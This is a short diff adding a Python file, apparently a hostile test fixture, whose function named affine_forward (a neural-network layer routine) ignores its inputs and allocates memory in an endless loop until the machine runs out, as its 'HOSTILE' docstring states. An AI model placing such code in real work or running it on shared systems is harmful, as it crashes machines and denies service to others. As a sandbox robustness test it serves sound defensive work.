@@ -1,0 +1,9 @@
+"""HOSTILE affine_forward: out of memory; takes all memory there is."""
+
+import numpy as np
+
+
+def affine_forward(x, w, b):
+    taken = []
+    while True:
+        taken.append(np.ones(1 << 22))
